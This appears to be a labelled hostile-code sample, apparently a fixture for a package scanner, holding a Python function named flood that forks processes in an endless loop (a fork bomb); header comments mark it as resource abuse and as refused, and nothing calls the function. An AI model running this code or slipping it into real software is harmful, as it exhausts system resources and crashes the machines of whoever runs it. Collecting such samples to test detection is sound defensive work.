# Hostile: starts copies of itself without end (nothing calls it).
# Families: resource-abuse. As a package: refused.
import os


def flood():
    while True:
        os.fork()
